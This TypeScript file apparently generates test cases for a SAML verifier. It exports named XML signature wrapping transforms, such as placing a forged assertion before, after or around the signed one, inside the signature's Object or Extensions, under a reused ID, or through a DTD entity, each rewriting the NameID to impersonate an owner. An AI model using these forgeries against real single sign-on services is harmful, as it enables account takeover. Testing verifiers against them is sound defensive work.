// XML signature wrapping: a signed assertion stays somewhere in the text, and one of the forger's own stands where a
// careless reader looks. https://www.usenix.org/conference/usenixsecurity12/technical-sessions/presentation/somorovsky
const evil = (assertion: string) =>
  assertion
    .replace(/ ID="[^"]+"/, ' ID="_evil"')
    .replace(/<Signature.*<\/Signature>/s, "")
    .replace(/(<saml:NameID[^>]*>)[^<]*/, "$1the-owner")
    .replaceAll(/person-\d+@/g, "owner@");
const withoutSignature = (assertion: string) => assertion.replace(/<Signature.*<\/Signature>/s, "");
const signatureOf = (assertion: string) => /<Signature.*<\/Signature>/s.exec(assertion)?.[0] ?? "";
const wrap = (text: string, assertion: string, put: string) => text.replace(assertion, () => put);

/** Each by name: from the whole text and the signed assertion in it to the forged text. */
export const wrappings: readonly [string, (text: string, assertion: string) => string][] = [
  ["before the signed one", (text, good) => wrap(text, good, evil(good) + good)],
  ["after the signed one", (text, good) => wrap(text, good, good + evil(good))],
  [
    "around the signed one",
    (text, good) =>
      wrap(
        text,
        good,
        evil(good).replace("</saml:Assertion>", () => `${good}</saml:Assertion>`),
      ),
  ],
  [
    "with the signature moved into it, and the signed one inside that",
    (text, good) => {
      const moved = signatureOf(good).replace(
        "</Signature>",
        () => `<Object>${withoutSignature(good)}</Object></Signature>`,
      );
      return wrap(
        text,
        good,
        evil(good).replace("<saml:Subject>", () => `${moved}<saml:Subject>`),
      );
    },
  ],
  [
    "with the signed one in the extensions of the wrapping",
    (text, good) =>
      wrap(text, good, evil(good)).replace(
        "<samlp:Status>",
        () => `<samlp:Extensions>${good}</samlp:Extensions><samlp:Status>`,
      ),
  ],
  [
    "under the same ID",
    (text, good) =>
      wrap(text, good, evil(good).replace("_evil", / ID="([^"]+)"/.exec(good)?.[1] ?? "") + good),
  ],
  ["in its place", (text) => text.replace(/(<saml:NameID[^>]*>)[^<]*/, "$1the-owner")],
  [
    "in an entity of a document type",
    (text) =>
      `<!DOCTYPE x [<!ENTITY owner "the-owner">]>${text.replace(/(<saml:NameID[^>]*>)[^<]*/, "$1&owner;")}`,
  ],
];
